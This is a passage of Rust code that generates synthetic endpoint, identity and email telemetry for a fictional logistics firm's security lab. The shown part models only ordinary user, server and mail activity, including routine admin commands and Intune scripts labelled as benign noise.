        let hashes = file_hashes(&identity);
        // A program is one file everywhere; a document changes size as it is edited.
        let size = if is_program(file) {
            program_size(&identity)
        } else {
            1024 + (report * 7919) % 4_000_000
        };
        row.extend([
            ("ActionType", action.into()),
            ("FileName", file.into()),
            ("FolderPath", path.as_str().into()),
            ("SHA1", hashes.sha1.into()),
            ("SHA256", hashes.sha256.into()),
            ("MD5", hashes.md5.into()),
            ("FileSize", Val::L(size)),
        ]);
        row.extend(extra);
        self.push("DeviceFileEvents", row);
        self.saw_program(device, &path, time);
    }

    fn registry_event(
        &mut self,
        device: usize,
        p: &Proc,
        time: i64,
        action: &str,
        key: &str,
        value_name: &str,
        data: &str,
    ) {
        let report = self.next_report();
        let mut row = context(&self.devices[device], time, report, p);
        row.extend([
            ("ActionType", action.into()),
            ("RegistryKey", key.into()),
            ("RegistryValueName", value_name.into()),
            ("RegistryValueData", data.into()),
            (
                "RegistryValueType",
                if data.is_empty() {
                    "".into()
                } else {
                    "String".into()
                },
            ),
        ]);
        self.push("DeviceRegistryEvents", row);
    }

    fn device_event(&mut self, device: usize, p: &Proc, time: i64, action: &str, extra: Row) {
        let report = self.next_report();
        let mut row = context(&self.devices[device], time, report, p);
        row.push(("ActionType", action.into()));
        row.extend(extra);
        self.push("DeviceEvents", row);
    }

    fn image_load(&mut self, device: usize, p: &Proc, time: i64, folder: &str, dll: &str) {
        let report = self.next_report();
        let mut row = context(&self.devices[device], time, report, p);
        let path = format!("{folder}\\{dll}");
        let identity = file_identity(&path);
        let hashes = file_hashes(&identity);
        row.extend([
            ("ActionType", "ImageLoaded".into()),
            ("FileName", dll.into()),
            ("FolderPath", path.as_str().into()),
            ("SHA1", hashes.sha1.into()),
            ("SHA256", hashes.sha256.into()),
            ("MD5", hashes.md5.into()),
            ("FileSize", Val::L(program_size(&identity))),
        ]);
        self.push("DeviceImageLoadEvents", row);
        self.saw_program(device, &path, time);
    }

    fn logon(
        &mut self,
        device: usize,
        time: i64,
        action: &str,
        logon_type: &str,
        account: (&str, &str),
        remote: (&str, &str),
        protocol: &str,
        failure: &str,
    ) {
        let report = self.next_report();
        let lsass = self.system_proc(
            "lsass.exe",
            "C:\\Windows\\system32\\lsass.exe",
            time - 5 * DAY,
        );
        let mut row = context(&self.devices[device], time, report, &lsass);
        row.extend([
            ("ActionType", action.into()),
            ("LogonType", logon_type.into()),
            ("AccountDomain", DOMAIN.into()),
            ("AccountName", account.0.into()),
            ("AccountSid", account.1.into()),
            ("Protocol", protocol.into()),
            ("FailureReason", failure.into()),
            ("IsLocalAdmin", Val::B(account.0.starts_with("adm-"))),
            ("LogonId", Val::L(report * 31 % 9_999_999)),
            ("RemoteDeviceName", remote.0.into()),
            ("RemoteIP", remote.1.into()),
            (
                "RemoteIPType",
                if remote.1.is_empty() {
                    "".into()
                } else {
                    "Private".into()
                },
            ),
            (
                "RemotePort",
                if remote.1.is_empty() {
                    Val::Null
                } else {
                    Val::L(49152 + report % 16000)
                },
            ),
        ]);
        self.push("DeviceLogonEvents", row);
    }

    // ---- ordinary activity ---------------------------------------------------------------------

    /// Thirty-one days of every device's, mailbox's and cloud app's activity. `checkpoint` is
    /// called after every `CHECKPOINT_EVERY` bursts, mails or cloud actions, and after each
    /// device's and each day's (where a large export takes the rows so far: what is held between
    /// two calls does not grow with the scale); its error stops the generation.
    fn ordinary_activity(
        &mut self,
        progress: &dyn Fn(String),
        checkpoint: &mut dyn FnMut(&mut Lab) -> Result<(), String>,
    ) -> Result<(), String> {
        let scale = i64::from(self.options.scale);
        self.device_inventory();
        self.identities();
        for day in 0..=LAB_DAYS {
            progress(format!(
                "building the lab data: day {} of {}",
                day + 1,
                LAB_DAYS + 1
            ));
            let weekday = (self.start / DAY + day + 4).rem_euclid(7); // 1970-01-01 was a Thursday
            let weekend = weekday == 0 || weekday == 6;
            for device in 0..self.devices.len() {
                let busy = if weekend { 1 } else { 6 };
                for burst in 0..busy * scale {
                    if self.devices[device].server {
                        self.server_burst(device, day);
                    } else {
                        self.workstation_burst(device, day);
                    }
                    if burst % CHECKPOINT_EVERY == CHECKPOINT_EVERY - 1 {
                        checkpoint(self)?;
                    }
                }
                checkpoint(self)?;
            }
            for mail in 0..(if weekend { 4 } else { 25 }) * scale {
                self.ordinary_mail(day);
                if mail % CHECKPOINT_EVERY == CHECKPOINT_EVERY - 1 {
                    checkpoint(self)?;
                }
            }
            for activity in 0..(if weekend { 3 } else { 12 }) * scale {
                self.ordinary_cloud_activity(day);
                if activity % CHECKPOINT_EVERY == CHECKPOINT_EVERY - 1 {
                    checkpoint(self)?;
                }
            }
            checkpoint(self)?;
        }
        for _ in 0..6 {
            self.benign_alert();
        }
        Ok(())
    }

    fn device_inventory(&mut self) {
        for device in 0..self.devices.len() {
            for day in (0..LAB_DAYS).step_by(3) {
                let time = self.start + day * DAY + 2 * HOUR + self.rng.range(0, HOUR);
                let report = self.next_report();
                let d = &self.devices[device];
                let logged_on = d.owner.map(|o| json!([{"UserName": self.users[o].account, "DomainName": DOMAIN.to_ascii_uppercase(), "Sid": self.users[o].sid}]).to_string()).unwrap_or("[]".into());
                let row: Row = vec![
                    ("Timestamp", Val::T(time)),
                    ("DeviceId", d.id.as_str().into()),
                    ("DeviceName", d.name.as_str().into()),
                    ("ReportId", Val::L(report)),
                    ("ClientVersion", "10.8760.26100.3775".into()),
                    ("PublicIP", "203.0.113.24".into()),
                    ("OSArchitecture", "64-bit".into()),
                    ("OSPlatform", d.os.into()),
                    ("OSBuild", Val::L(if d.server { 20348 } else { 26100 })),
                    (
                        "OSVersion",
                        if d.server {
                            "10.0".into()
                        } else {
                            "24H2".into()
                        },
                    ),
                    ("OSDistribution", "".into()),
                    ("IsAzureADJoined", Val::B(!d.server)),
                    (
                        "JoinType",
                        if d.server {
                            "Domain Joined".into()
                        } else {
                            "Hybrid Azure AD Join".into()
                        },
                    ),
                    ("AadDeviceId", digest(&d.name, 32).into()),
                    ("LoggedOnUsers", logged_on.into()),
                    (
                        "MachineGroup",
                        if d.server {
                            "Servers".into()
                        } else {
                            "Workstations".into()
                        },
                    ),
                    ("OnboardingStatus", "Onboarded".into()),
                    ("DeviceCategory", "Endpoint".into()),
                    (
                        "DeviceType",
                        if d.server {
                            "Server".into()
                        } else {
                            "Workstation".into()
                        },
                    ),
                    (
                        "Model",
                        if d.server {
                            "Virtual Machine".into()
                        } else {
                            "Latitude 7440".into()
                        },
                    ),
                    (
                        "Vendor",
                        if d.server {
                            "Microsoft Corporation".into()
                        } else {
                            "Dell Inc.".into()
                        },
                    ),
                    ("SensorHealthState", "Active".into()),
                    (
                        "ExposureLevel",
                        if d.name.starts_with("web01") {
                            "High".into()
                        } else {
                            "Medium".into()
                        },
                    ),
                    (
                        "AssetValue",
                        if d.name.starts_with("dc") {
                            "High".into()
                        } else {
                            "Normal".into()
                        },
                    ),
                    ("IsInternetFacing", Val::B(d.name.starts_with("web01"))),
                    ("IsExcluded", Val::B(false)),
                    ("IsTransient", Val::B(false)),
                    ("ConnectivityType", "Wired".into()),
                    ("Site", "Rotterdam HQ".into()),
                ];
                self.push("DeviceInfo", row);
            }
        }
    }

    fn identities(&mut self) {
        for i in 0..self.users.len() {
            let time = self.start + DAY + self.rng.range(0, HOUR);
            let report = self.rng.guid();
            let u = &self.users[i];
            let (given, surname) = u.name.split_once(' ').unwrap_or((u.name, ""));
            let roles = if u.department == "IT" {
                json!(["Helpdesk Administrator"])
            } else {
                json!([])
            };
            let row: Row = vec![
                ("Timestamp", Val::T(time)),
                ("ReportId", report.into()),
                ("AccountObjectId", u.object_id.as_str().into()),
                ("AccountUpn", u.upn.as_str().into()),
                ("OnPremSid", u.sid.as_str().into()),
                ("AccountDisplayName", u.name.into()),
                ("AccountName", u.account.as_str().into()),
                ("AccountDomain", format!("{DOMAIN}.local").into()),
                (
                    "CriticalityLevel",
                    Val::L(if u.department == "Executive" || u.department == "IT" {
                        1
                    } else {
                        0
                    }),
                ),
                ("Type", "User".into()),
                (
                    "DistinguishedName",
                    format!("CN={},OU={},DC={DOMAIN},DC=local", u.name, u.department).into(),
                ),
                ("GivenName", given.into()),
                ("Surname", surname.into()),
                ("Department", u.department.into()),
                ("JobTitle", u.title.into()),
                ("EmailAddress", u.upn.as_str().into()),
                ("City", "Rotterdam".into()),
                ("Country", "NL".into()),
                ("IsAccountEnabled", Val::B(true)),
                ("CompanyName", "Kestrel Logistics".into()),
                ("AssignedRoles", Val::J(roles)),
                ("Tags", Val::J(json!([]))),
                (
                    "SourceProviders",
                    Val::J(json!(["ActiveDirectory", "AzureActiveDirectory"])),
                ),
                ("RiskLevel", "Low".into()),
                ("IdentityEnvironment", "Hybrid".into()),
            ];
            self.push("IdentityInfo", row);
        }
    }

    fn workstation_burst(&mut self, device: usize, day: i64) {
        let user = self.devices[device].owner.unwrap_or(0);
        let time = self.time_on(day, true);
        let account = self.users[user].account.clone();
        let explorer = self.user_proc(
            user,
            "explorer.exe",
            "C:\\Windows",
            "C:\\Windows\\Explorer.EXE",
            time - 2 * HOUR,
            ("userinit.exe", 5120, time - 2 * HOUR - SECOND),
        );
        let parent = ("explorer.exe", explorer.pid, explorer.created);
        match self.rng.below(12) {
            0..=2 => {
                let (file, folder, command, hosts): (&str, &str, &str, &[(&str, &str)]) = if self
                    .rng
                    .chance(0.6)
                {
                    (
                        "chrome.exe",
                        "C:\\Program Files\\Google\\Chrome\\Application",
                        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
                        &[
                            ("142.250.179.196", "www.google.com"),
                            ("140.82.121.4", "github.com"),
                            ("151.101.1.69", "stackoverflow.com"),
                            ("13.107.42.14", "www.linkedin.com"),
                        ],
                    )
                } else {
                    (
                        "msedge.exe",
                        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
                        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default",
                        &[
                            ("13.107.21.200", "www.bing.com"),
                            ("20.190.160.20", "login.microsoftonline.com"),
                            ("52.96.166.130", "outlook.office365.com"),
                        ],
                    )
                };
                let browser = self.user_proc(user, file, folder, command, time, parent);
                self.process_created(device, &explorer, &browser);
                for _ in 0..self.rng.range(2, 6) {
                    let (ip, host) = *self.rng.pick(hosts);
                    let t = time + self.rng.range(SECOND, 20 * MINUTE);
                    self.connection(device, &browser, t, ip, 443, host, "ConnectionSuccess");
                }
                if self.rng.chance(0.3) {
                    let name = format!(
                        "{}_{}.pdf",
                        self.rng
                            .pick(&["report", "manifest", "invoice", "schedule", "rates"]),
                        self.rng.range(1000, 9999)
                    );
                    let folder = format!("C:\\Users\\{account}\\Downloads");
                    let t = time + self.rng.range(MINUTE, 30 * MINUTE);
                    let url = format!(
                        "https://{}/files/{name}",
                        self.rng.pick(&[
                            "sharepoint.kestrel.example",
                            "portal.northwind-freight.example",
                            "docs.rotterdamport.example"
                        ])
                    );
                    self.file_event(
                        device,
                        &browser,
                        t,
                        "FileCreated",
                        &folder,
                        &name,
                        vec![("FileOriginUrl", url.into())],
                    );
                }
            }
            3 | 4 => {
                let app = *self.rng.pick(&[("OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "outlook.office365.com", "52.96.166.130"), ("ms-teams.exe", "\"C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3314.2380_x64__8wekyb3d8bbwe\\ms-teams.exe\"", "teams.microsoft.com", "52.113.194.132")]);
                let folder = app
                    .1
                    .trim_matches('"')
                    .rsplit_once('\\')
                    .map_or("", |(f, _)| f)
                    .to_string();
                let process = self.user_proc(user, app.0, &folder, app.1, time, parent);
                self.process_created(device, &explorer, &process);
                for _ in 0..self.rng.range(1, 4) {
                    let t = time + self.rng.range(SECOND, HOUR);
                    self.connection(device, &process, t, app.3, 443, app.2, "ConnectionSuccess");
                }
            }
            5 => {
                let (file, ext) = *self
                    .rng
                    .pick(&[("EXCEL.EXE", "xlsx"), ("WINWORD.EXE", "docx")]);
                let doc = format!(
                    "{} {}.{ext}",
                    self.rng.pick(&[
                        "Q3 routes",
                        "Fuel costs",
                        "Driver roster",
                        "Budget",
                        "Customer list",
                        "Minutes"
                    ]),
                    self.rng.range(1, 30)
                );
                let folder = format!("C:\\Users\\{account}\\Documents");
                let command = format!(
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\{file}\" \"{folder}\\{doc}\""
                );
                let office = self.user_proc(
                    user,
                    file,
                    "C:\\Program Files\\Microsoft Office\\root\\Office16",
                    &command,
                    time,
                    parent,
                );
                self.process_created(device, &explorer, &office);
                let t = time + self.rng.range(MINUTE, HOUR);
                self.file_event(device, &office, t, "FileModified", &folder, &doc, vec![]);
                self.image_load(
                    device,
                    &office,
                    time + SECOND,
                    "C:\\Program Files\\Microsoft Office\\root\\Office16",
                    "mso.dll",
                );
            }
            6 => {
                // Administrators and engineers use shells; conhost follows every console program.
                let shell = if self.rng.chance(0.5) {
                    let command = *self.rng.pick(&["powershell.exe -NoProfile", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", "powershell.exe -Command Get-Process | Sort-Object CPU -Descending", "powershell.exe -NoProfile -Command \"Get-ChildItem $env:USERPROFILE\\Documents\""]);
                    self.user_proc(
                        user,
                        "powershell.exe",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                        command,
                        time,
                        parent,
                    )
                } else {
                    self.user_proc(
                        user,
                        "cmd.exe",
                        "C:\\Windows\\System32",
                        "\"C:\\Windows\\system32\\cmd.exe\"",
                        time,
                        parent,
                    )
                };
                self.process_created(device, &explorer, &shell);
                let shell_parent = (shell.file.as_str(), shell.pid, shell.created);
                let conhost = self.user_proc(
                    user,
                    "conhost.exe",
                    "C:\\Windows\\System32",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    time + 20 * 1_000_000,
                    shell_parent,
                );
                self.process_created(device, &shell, &conhost);
                for _ in 0..self.rng.range(0, 3) {
                    let (file, command) = *self.rng.pick(&[
                        ("ipconfig.exe", "ipconfig /all"),
                        ("whoami.exe", "whoami"),
                        ("ping.exe", "ping -n 2 dc01.kestrel.local"),
                        ("nslookup.exe", "nslookup fs01.kestrel.local"),
                        ("git.exe", "git pull --rebase"),
                    ]);
                    let t = time + self.rng.range(SECOND, 10 * MINUTE);
                    let folder = if file == "git.exe" {
                        "C:\\Program Files\\Git\\cmd"
                    } else {
                        "C:\\Windows\\System32"
                    };
                    let child = self.user_proc(
                        user,
                        file,
                        folder,
                        command,
                        t,
                        (shell.file.as_str(), shell.pid, shell.created),
                    );
                    self.process_created(device, &shell, &child);
                }
            }
            7 => {
                // Intune runs detection scripts with -ExecutionPolicy Bypass: everyday noise for
                // anyone hunting on "bypass".
                let mut ime = self.system_proc("Microsoft.Management.Services.IntuneWindowsAgent.exe", "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe\"", time - DAY);
                ime.folder =
                    "C:\\Program Files (x86)\\Microsoft Intune Management Extension".into();
                let script = format!(
                    "powershell.exe -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{}_{}.ps1\"",
                    self.rng.guid(),
                    self.rng.guid()
                );
                let mut ps = self.system_proc("powershell.exe", &script, time);
                ps.folder = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0".into();
                ps.parent_file = ime.file.clone();
                ps.parent_pid = ime.pid;
                self.process_created(device, &ime, &ps);
                let conhost = self.system_proc(
                    "conhost.exe",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    time + 30 * 1_000_000,
                );
                self.process_created(device, &ps, &conhost);
            }
            8 => {
                let svchost = self.system_proc(
                    "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    time - DAY,
                );
                let task = self.system_proc("taskhostw.exe", "taskhostw.exe", time);
                self.process_created(device, &svchost, &task);
                let dc = self
                    .devices
                    .iter()
                    .position(|d| d.name.starts_with("dc01"))
                    .unwrap_or(0);
                let dc_ip = self.devices[dc].ip.clone();
                self.connection(device, &svchost, time, &dc_ip, 53, "", "ConnectionSuccess");
                self.image_load(
                    device,
                    &task,
                    time + SECOND,
                    "C:\\Windows\\System32",
                    "wininet.dll",
                );
            }
            9 => {
                let mut defender = self.system_proc("MsMpEng.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"", time - DAY);
                defender.folder =
                    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0"
                        .into();
                let action = *self.rng.pick(&[
                    "AntivirusScanCompleted",
                    "AntivirusDefinitionsUpdated",
                    "SmartScreenUrlWarning",
                    "UsbDriveMounted",
                    "BrowserLaunchedToOpenUrl",
                ]);
                let extra: Row = match action {
                    "UsbDriveMounted" => vec![("AdditionalFields", Val::S(json!({"DriveLetter": "E:", "ProductName": "Cruzer Blade", "Manufacturer": "SanDisk", "Volume": "KINGSTON"}).to_string()))],
                    "SmartScreenUrlWarning" => vec![("RemoteUrl", "http://free-fonts-download.example/get".into())],
                    _ => vec![("AdditionalFields", Val::S(json!({"ScanTypeIndex": 1}).to_string()))],
                };
                self.device_event(device, &defender, time, action, extra);
            }
            10 => {
                let fs = self
                    .devices
                    .iter()
                    .position(|d| d.name.starts_with("fs01"))
                    .unwrap_or(0);
                let fs_ip = self.devices[fs].ip.clone();
                let system = self.system_proc("System", "", time - 3 * DAY);
                self.connection(device, &system, time, &fs_ip, 445, "", "ConnectionSuccess");
                let dc = self
                    .devices
                    .iter()
                    .position(|d| d.name.starts_with("dc01"))
                    .unwrap_or(0);
                let sid = self.users[user].sid.clone();
                let failed = self.rng.chance(0.08);
                let logon_type = if self.rng.chance(0.2) {
                    "Unlock"
                } else {
                    "Interactive"
                };
                self.logon(
                    device,
                    time,
                    if failed {
                        "LogonFailed"
                    } else {
                        "LogonSuccess"
                    },
                    logon_type,
                    (&account, &sid),
                    ("", ""),
                    "Negotiate",
                    if failed {
                        "InvalidUserNameOrPassword"
                    } else {
                        ""
                    },
                );
                let ws_ip = self.devices[device].ip.clone();
                let ws_name = self.devices[device].name.clone();
                self.identity_logon(
                    time,
                    user,
                    "Kerberos",
                    &ws_name,
                    &ws_ip,
                    &self.devices[dc].name.clone(),
                    !failed,
                );
            }
            _ => {
                let folder = format!("C:\\Users\\{account}\\AppData\\Local\\Microsoft\\OneDrive");
                let onedrive = self.user_proc(
                    user,
                    "OneDrive.exe",
                    &folder,
                    &format!("\"{folder}\\OneDrive.exe\" /background"),
                    time,
                    parent,
                );
                self.process_created(device, &explorer, &onedrive);
                self.registry_event(device, &onedrive, time, "RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive", &format!("\"C:\\Users\\{account}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"));
                let t = time + self.rng.range(MINUTE, HOUR);
                let name = format!(
                    "{}.xlsx",
                    self.rng
                        .pick(&["Rates 2026", "Depot contacts", "Shift plan"])
                );
                self.file_event(
                    device,
                    &onedrive,
                    t,
                    "FileModified",
                    &format!("C:\\Users\\{account}\\OneDrive - Kestrel Logistics\\Shared"),
                    &name,
                    vec![],
                );
                self.connection(
                    device,
                    &onedrive,
                    t,
                    "13.107.136.10",
                    443,
                    "kestrel-my.sharepoint.com",
                    "ConnectionSuccess",
                );
            }
        }
    }

    fn identity_logon(
        &mut self,
        time: i64,
        user: usize,
        protocol: &str,
        device: &str,
        ip: &str,
        destination: &str,
        success: bool,
    ) {
        let report = self.rng.guid();
        let u = &self.users[user];
        let row: Row = vec![
            ("Timestamp", Val::T(time)),
            (
                "ActionType",
                if success {
                    "LogonSuccess".into()
                } else {
                    "LogonFailed".into()
                },
            ),
            ("Application", "Active Directory".into()),
            ("LogonType", "Resource access".into()),
            ("Protocol", protocol.into()),
            (
                "FailureReason",
                if success {
                    "".into()
                } else {
                    "WrongPassword".into()
                },
            ),
            ("AccountName", u.account.as_str().into()),
            ("AccountDomain", format!("{DOMAIN}.local").into()),
            ("AccountUpn", u.upn.as_str().into()),
            ("AccountSid", u.sid.as_str().into()),
            ("AccountObjectId", u.object_id.as_str().into()),
            ("AccountDisplayName", u.name.into()),
            ("DeviceName", device.into()),
            ("DeviceType", "Desktop".into()),
            ("OSPlatform", "Windows".into()),
            ("IPAddress", ip.into()),
            ("Port", Val::L(49152 + (time / SECOND) % 16000)),
            ("DestinationDeviceName", destination.into()),
            ("DestinationIPAddress", "10.10.0.10".into()),
            (
                "DestinationPort",
                Val::L(if protocol == "Kerberos" { 88 } else { 445 }),
            ),
            ("ReportId", report.into()),
            (
                "AdditionalFields",
                Val::J(json!({"Spns": format!("krbtgt/{}", DOMAIN.to_ascii_uppercase())})),
            ),
        ];
        self.push("IdentityLogonEvents", row);
    }

    fn server_burst(&mut self, device: usize, day: i64) {
        let time = self.time_on(day, false);
        let name = self.devices[device].name.clone();
        let services = self.system_proc(
            "services.exe",
            "C:\\Windows\\system32\\services.exe",
            time - 10 * DAY,
        );
        let (file, command) = if name.starts_with("sql") {
            (
                "sqlservr.exe",
                "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
            )
        } else if name.starts_with("web") || name.starts_with("app") {
            (
                "w3wp.exe",
                "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"",
            )
        } else {
            *self.rng.pick(&[
                (
                    "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
                ),
                (
                    "wsmprovhost.exe",
                    "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                ),
                (
                    "Veeam.EndPoint.Service.exe",
                    "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"",
                ),
            ])
        };
        let mut process = self.system_proc(file, command, time);
        process.folder = command
            .trim_start_matches('"')
            .rsplit_once('\\')
            .map(|(f, _)| f.to_string())
            .unwrap_or_default();
        self.process_created(device, &services, &process);
        // Workstations reach the servers over SMB and RPC.
        let client = self.rng.below(self.users.len() as u64) as usize;
        let client_ip = self.devices[client].ip.clone();
        let client_name = self.devices[client].name.clone();
        let account = self.users[client].account.clone();
        let sid = self.users[client].sid.clone();
        self.logon(
            device,
            time,
            "LogonSuccess",
            "Network",
            (&account, &sid),
            (&client_name, &client_ip),
            "Kerberos",
            "",
        );
        if name.starts_with("fs01") {
            let system = self.system_proc("System", "", time - 10 * DAY);
            let share = *self.rng.pick(&["Finance", "Operations", "HR", "Sales"]);
            let file = format!(
                "{}_{}.xlsx",
                self.rng
                    .pick(&["ledger", "routes", "payroll", "pipeline", "tariffs"]),
                self.rng.range(1, 400)
            );
            self.file_event(
                device,
                &system,
                time,
                "FileModified",
                &format!("D:\\Shares\\{share}"),
                &file,
                vec![
                    ("RequestProtocol", "SMB".into()),
                    ("RequestSourceIP", client_ip.as_str().into()),
                    ("RequestAccountName", account.as_str().into()),
                    ("RequestAccountDomain", DOMAIN.into()),
                    ("RequestAccountSid", sid.as_str().into()),
                    ("ShareName", share.into()),
                ],
            );
        }
    }

    fn ordinary_mail(&mut self, day: i64) {
        let time = self.time_on(day, true);
        let recipient = self.rng.below(self.users.len() as u64) as usize;
        // Each subject's number has a plausible range (one draw either way, so the rest of the
        // data stays as it was). Each partner writes from a few mailboxes of its own, through its
        // own mail servers: the same senders and addresses again and again.
        type Senders = &'static [(&'static str, &'static str)];
        const NORTHWIND: Senders = &[
            ("dispatch@northwind-freight.example", "Northwind Dispatch"),
            ("l.moreau@northwind-freight.example", "Laura Moreau"),
            ("planning@northwind-freight.example", "Northwind Planning"),
        ];
        const PORT: Senders = &[
            ("noreply@rotterdamport.example", "Port of Rotterdam"),
            (
                "berth.planning@rotterdamport.example",
                "Berth Planning, Port of Rotterdam",
            ),
        ];
        const FUEL: Senders = &[
            ("billing@contoso-fuel.example", "Contoso Fuel Billing"),
            ("m.okoro@contoso-fuel.example", "Michael Okoro"),
        ];
        const WEEKLY: Senders = &[("newsletter@logisticsweekly.example", "Logistics Weekly")];
        const IT: Senders = &[("it-notifications@kestrel.example", "Kestrel IT")];
        const HR: Senders = &[("hr@kestrel.example", "Kestrel HR")];
        const RELAY: &[&str] = &["10.10.0.20"];
        const NORTHWIND_MX: &[&str] = &["198.51.100.23", "198.51.100.24"];
        const PORT_MX: &[&str] = &["198.51.100.87"];
        const FUEL_MX: &[&str] = &["198.51.100.140"];
        const WEEKLY_MX: &[&str] = &["198.51.100.201", "198.51.100.202"];
        let (senders, servers, subject, low, high): (Senders, &[&str], &str, i64, i64) =
            *self.rng.pick(&[
                (
                    NORTHWIND,
                    NORTHWIND_MX,
                    "Pickup confirmation for order {n}",
                    10,
                    9999,
                ),
                (PORT, PORT_MX, "Berth schedule update week {n}", 1, 53),
                (FUEL, FUEL_MX, "Your invoice {n} is available", 10, 9999),
                (
                    WEEKLY,
                    WEEKLY_MX,
                    "This week: rail freight volumes up {n}%",
                    1,
                    16,
                ),
                (IT, RELAY, "Planned maintenance on {n} November", 1, 31),
                (HR, RELAY, "Reminder: submit timesheets ({n})", 10, 9999),
            ]);
        let subject = subject.replace("{n}", &self.rng.range(low, high).to_string());
        let internal = senders[0].0.ends_with(MAIL_DOMAIN);
        let has_url = self.rng.chance(0.4);
        let has_attachment = !has_url && self.rng.chance(0.3);
        let sender_domain = senders[0].0.split_once('@').map(|(_, d)| d).unwrap_or("");
        let url = format!(
            "https://{sender_domain}/track/{}",
            self.rng.range(100_000, 999_999)
        );
        // One draw for an outside sender, as before: it picks the mailbox and the server.
        let which = if internal {
            0
        } else {
            self.rng.range(2, 250) as usize
        };
        let (sender, sender_name) = senders[which % senders.len()];
        let sender_ip = servers[(which / senders.len()) % servers.len()].to_string();
        let pass = json!({"SPF": "pass", "DKIM": "pass", "DMARC": "pass", "CompAuth": "pass"});
        let message_id = self.mail(Mail {
            time,
            sender,
            sender_name,
            sender_ip: &sender_ip,
            recipient,
            subject: &subject,
            bulk: sender.starts_with("newsletter"),
            authentication: pass,
            url: has_url.then_some(url.as_str()),
            attachments: i64::from(has_attachment),
        });
        let (upn, object_id) = (
            self.users[recipient].upn.clone(),
            self.users[recipient].object_id.clone(),
        );
        if has_url && self.rng.chance(0.25) {
            let t = time + self.rng.range(MINUTE, 3 * HOUR);
            self.url_click(t, &url, &upn, &message_id, "ClickAllowed", "");
        }
        if has_attachment {
            let name = format!(
                "{}.pdf",
                subject
                    .split_whitespace()
                    .take(2)
                    .collect::<Vec<_>>()
                    .join("_")
            );
            let file_size = self.rng.range(20_000, 2_000_000);
            let report_id = self.rng.guid();
            self.push(
                "EmailAttachmentInfo",
                vec![
                    ("Timestamp", Val::T(time)),
                    ("NetworkMessageId", message_id.as_str().into()),
                    ("SenderFromAddress", sender.into()),
                    ("SenderDisplayName", sender_name.into()),
                    ("RecipientEmailAddress", upn.as_str().into()),
                    ("RecipientObjectId", object_id.as_str().into()),
                    ("FileName", name.as_str().into()),
                    ("FileType", "pdf".into()),
                    (
                        "SHA256",
                        // Each mail's attachment is a document of its own (this month's invoice is
                        // not last month's), whatever its name.
                        file_hashes(&format!("{message_id}\\{name}")).sha256.into(),
                    ),
                    ("FileSize", Val::L(file_size)),
                    ("ReportId", report_id.into()),
                ],
            );
        }
    }

    /// Delivers one mail: its EmailEvents row and, when it carries a link, its EmailUrlInfo row.
    /// Returns the NetworkMessageId.
    fn mail(&mut self, mail: Mail) -> String {
        let message_id = self.rng.guid();
        let internet_id = self.rng.hex(24);
        let cluster = self.rng.range(1_000_000, 9_999_999);
        let report_id = self.rng.guid();
        let domain = mail.sender.split_once('@').map(|(_, d)| d).unwrap_or("");
        let internal = domain == MAIL_DOMAIN;
        let folder = if mail.bulk {
            "Junk folder"
        } else {
            "Inbox/folder"
        };
        let recipient = &self.users[mail.recipient];
        let row: Row = vec![
            ("Timestamp", Val::T(mail.time)),
            ("NetworkMessageId", message_id.as_str().into()),
            (
                "InternetMessageId",
                format!("<{internet_id}@{domain}>").into(),
            ),
            ("SenderMailFromAddress", mail.sender.into()),
            ("SenderFromAddress", mail.sender.into()),
            ("SenderDisplayName", mail.sender_name.into()),
            ("SenderMailFromDomain", domain.into()),
            ("SenderFromDomain", domain.into()),
            ("SenderIPv4", mail.sender_ip.into()),
            ("RecipientEmailAddress", recipient.upn.as_str().into()),
            ("RecipientObjectId", recipient.object_id.as_str().into()),
            ("Subject", mail.subject.into()),
            ("EmailClusterId", Val::L(cluster)),
            (
                "EmailDirection",
                if internal { "Intra-org" } else { "Inbound" }.into(),
            ),
            ("DeliveryAction", "Delivered".into()),
            ("DeliveryLocation", folder.into()),
            ("BulkComplaintLevel", Val::L(if mail.bulk { 7 } else { 0 })),
            (
                "AuthenticationDetails",
                Val::S(mail.authentication.to_string()),
            ),
            ("AttachmentCount", Val::L(mail.attachments)),
            ("UrlCount", Val::L(i64::from(mail.url.is_some()))),
            ("EmailLanguage", "en".into()),
            ("ReportId", report_id.into()),
            ("LatestDeliveryLocation", folder.into()),
            ("LatestDeliveryAction", "Delivered".into()),
        ];
        self.push("EmailEvents", row);
        if let Some(url) = mail.url {
            let url_domain = url
                .split("://")
                .nth(1)
                .and_then(|rest| rest.split('/').next())
                .unwrap_or("");
            let report_id = self.rng.guid();
            self.push(
                "EmailUrlInfo",
                vec![
                    ("Timestamp", Val::T(mail.time)),
                    ("NetworkMessageId", message_id.as_str().into()),
                    ("Url", url.into()),
                    ("UrlDomain", url_domain.into()),
